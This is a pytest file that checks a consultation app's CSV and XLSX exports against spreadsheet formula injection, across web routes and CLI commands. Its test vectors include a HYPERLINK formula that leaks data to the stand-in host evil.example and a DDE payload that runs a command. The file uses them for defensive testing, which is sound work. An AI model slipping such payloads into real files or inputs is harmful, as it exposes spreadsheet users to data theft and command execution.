"""Every spreadsheet the app produces, from any route of the URL map and any CLI command, goes
through the one writer: free text holding the classic formula vectors comes out neutralised in
every CSV cell (also for spreadsheets that split on ';') and exact, never a formula, in XLSX."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
from sqlalchemy import select

from consult.contributions import operations as contributions
from consult.contributions.models import Contribution
from consult.db import db, writing
from consult.exports.writers import FORMULA_SIGNS, neutralise
from consult.questionnaires import operations
from consult.questionnaires.registry import current_questionnaires
from consult.staff.exporting import wait_for_jobs
from consult.staff.models import ExportJob, Invitation
from tests.conftest import csrf_token

VECTORS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff20SUM(1)",
    '=HYPERLINK("http://evil.example/?leak","clic")',
    "=cmd|' /C calc'!A0",
    "ok;=1+1",
    "ok; -2+3",
    "line one\n=1+1",
]
CSV_TYPES = ("text/csv",)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: What a spreadsheet may skip before a sign, then the signs.
_RISKY_PIECE = re.compile(
    rf"^[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\ufeff]*[{re.escape(FORMULA_SIGNS)}]"
)
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")


def _verified_pledge(vector: str):
    """A verified campaign pledge carrying ``vector`` in every free text the export holds."""
    import hashlib
    from datetime import date

    from consult.campaign.models import Pledge

    return Pledge(
        token_hash=hashlib.sha256(vector.encode()).hexdigest(),
        status="verified",
        institution_name=vector,
        normalised_name=vector,
        level="municipality",
        country="FR",
        region="europe",
        own_commitment=vector,
        language="en",
        signatory_name=vector,
        signatory_office=vector,
        contact_name=vector,
        contact_email="a@example.org",
        contact_phone=vector[:40],
        joined_on=date(2022, 2, 23),
    )


def _seed(app) -> None:
    """Put every vector in every kind of free text the spreadsheets carry."""
    with app.app_context(), writing():
        questionnaire = current_questionnaires()["local-governments"]
        long_key = next(
            q.key for q in questionnaire.questions if q.type == "long_text" and q.when is None
        )
        for vector in VECTORS:
            response = operations.start_response(
                db.session, questionnaire, operations.new_resume_token(), "en"
            )
            operations.save_answers(
                db.session,
                questionnaire,
                response,
                {"institution_name": {"": vector}, long_key: {"": vector}},
            )
            operations.submit_response(db.session, questionnaire, response, "en")
            operations.save_contact_details(
                db.session,
                response,
                name=vector,
                email="a@example.org",
                job_title=vector,
                language="en",
            )
            contribution, _token = contributions.create_contribution(
                db.session,
                text=vector,
                kind="comment",
                language="en",
                organisation_type="academia",
                organisation_name=vector,
            )
            contributions.publish(db.session, contribution)
            db.session.add(
                Invitation(
                    questionnaire_key="local-governments",
                    institution_name=vector[:200],
                    country="FR",
                    nonce=f"n{len(vector)}{abs(hash(vector)) % 10**9}",
                )
            )
            db.session.add(_verified_pledge(vector))
        db.commit()
        assert db.session.scalars(select(Contribution)).first() is not None


def _check_csv(text: str, where: str) -> int:
    """Every cell neutralised; every piece a ';'-splitting spreadsheet would make is safe."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    cells = 0
    for row in rows:
        for cell in row:
            cells += 1
            if _PLAIN_NUMBER.match(cell):
                continue
            assert neutralise(cell) == cell, (where, cell)
    for line in text.removeprefix("\ufeff").splitlines():
        for piece in re.split(r"[;,]", line):
            piece = piece.strip('"')
            if _PLAIN_NUMBER.match(piece.strip()):
                continue
            assert not _RISKY_PIECE.match(piece), (where, line)
    return cells


def _check_xlsx(data: bytes, where: str) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.add(cell.value)
    return found


def _is_spreadsheet(reply) -> str | None:
    if reply.mimetype in CSV_TYPES:
        return "csv"
    if reply.mimetype == XLSX_TYPE:
        return "xlsx"
    return None


def _ask_exports(client, app) -> None:
    """Ask the workspace for every export: responses wide and long, contributions, CSV and XLSX."""
    for fmt in ("csv", "xlsx"):
        for extra in ({}, {"long": "y"}):
            page = client.get("/staff/exports").get_data(as_text=True)
            data = {"csrf_token": csrf_token(page), "format": fmt, "questionnaire": "", **extra}
            data["with_personal_data"] = "y"
            assert client.post("/staff/exports", data=data).status_code == 303
            wait_for_jobs(app)  # one at a time: the threads would wait on each other's lock
        page = client.get("/staff/exports").get_data(as_text=True)
        data = {
            "csrf_token": csrf_token(page),
            "contributions-format": fmt,
            "contributions-with_personal_data": "y",
        }
        assert client.post("/staff/exports/contributions", data=data).status_code == 303
        wait_for_jobs(app)
    with app.app_context():
        jobs = db.session.scalars(select(ExportJob)).all()
        assert [job.status for job in jobs] == ["done"] * 6, [(j.status, j.error) for j in jobs]


def test_every_route_that_emits_a_spreadsheet_neutralises_every_cell(app, login):
    _seed(app)
    admin = login(app.test_client(), "admin")
    # The exports page tells the analyst what this test holds the files to.
    page = admin.get("/staff/exports").get_data(as_text=True).replace("&#39;", "'")
    assert "In CSV files, a cell that a spreadsheet could run as a formula" in page
    assert "XLSX, SPSS, Stata and JSON files keep the exact text" in page
    _ask_exports(admin, app)
    with app.app_context():
        questionnaire = current_questionnaires()["local-governments"]
        long_key = next(
            q.key for q in questionnaire.questions if q.type == "long_text" and q.when is None
        )
    queries = [
        "",
        "?format=csv",
        "?format=xlsx",
        f"?format=csv&questionnaire=local-governments&question={long_key}",
        "?format=csv&questionnaire=local-governments&question=institution_name",
    ]
    emitted: dict[str, set[str]] = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        int_args = re.findall(r"<int:([^>]+)>", rule.rule)  # in the order of the path
        if set(rule.arguments) - set(int_args):
            continue  # tokens and keys: no spreadsheet behind them (checked below by endpoint)
        ranges = [range(0, 9)] * len(int_args)
        combos = [()] if not int_args else [(n,) for n in ranges[0]]
        if len(int_args) == 2:
            combos = [(a, b) for a in range(1, 9) for b in (0, 1)]
        for combo in combos:
            path = rule.rule
            for name, value in zip(int_args, combo, strict=True):
                path = path.replace(f"<int:{name}>", str(value))
            for query in queries:
                reply = admin.get(path + query)
                kind = _is_spreadsheet(reply)
                data = reply.get_data()
                reply.close()
                if kind is None:
                    continue
                where = f"{path}{query}"
                if kind == "csv":
                    _check_csv(data.decode("utf-8"), where)
                    emitted.setdefault(rule.endpoint, set()).add("csv")
                else:
                    cells = _check_xlsx(data, where)
                    emitted.setdefault(rule.endpoint, set()).add("xlsx")
                    assert set(VECTORS) - {"\r=1+1"} & cells, where  # exact text, no apostrophe
    # The walk found every spreadsheet the app serves (none is skipped unnoticed).
    assert emitted == {
        "staff.export_download": {"csv", "xlsx"},
        "staff.invitation_links": {"csv"},
        "outcomes.rows": {"csv"},
    }, emitted


def test_every_cli_command_that_writes_a_spreadsheet_neutralises_every_cell(app, runner, tmp_path):
    _seed(app)
    commands = [
        ["export", "responses", "--with-personal-data"],
        ["export", "responses", "--long", "--with-personal-data"],
        ["export", "contributions", "--with-personal-data"],
        ["export", "campaign", "--with-personal-data"],
    ]
    for command in commands:
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"{command[1]}-{len(command)}.{fmt}"
            result = runner.invoke(args=[*command, "--format", fmt, "--out", str(out)])
            assert result.exit_code == 0, result.output
            if fmt == "csv":
                cells = _check_csv(out.read_text(encoding="utf-8-sig"), str(command))
                codebook = Path(str(out).removesuffix(".csv") + ".codebook.csv")
                _check_csv(codebook.read_text(encoding="utf-8-sig"), "codebook")
                assert cells > len(VECTORS)
            else:
                found = _check_xlsx(out.read_bytes(), str(command))
                assert {"=1+1", "ok;=1+1", "\uff1d1+1"} <= found, command


def test_no_module_writes_a_spreadsheet_but_the_writers():
    """A new CSV or XLSX must go through consult/exports/writers.py (csv_text or write_table)."""
    package = Path(__file__).resolve().parents[2] / "consult"
    writers = package / "exports" / "writers.py"
    pattern = re.compile(
        r"csv\.(writer|DictWriter)\(|xlsxwriter|openpyxl|\.to_csv\(|\.to_excel\(|ExcelWriter"
    )
    offenders = [
        f"{path.relative_to(package)}:{number}"
        for path in package.rglob("*.py")
        if path != writers
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if pattern.search(line)
    ]
    assert offenders == []
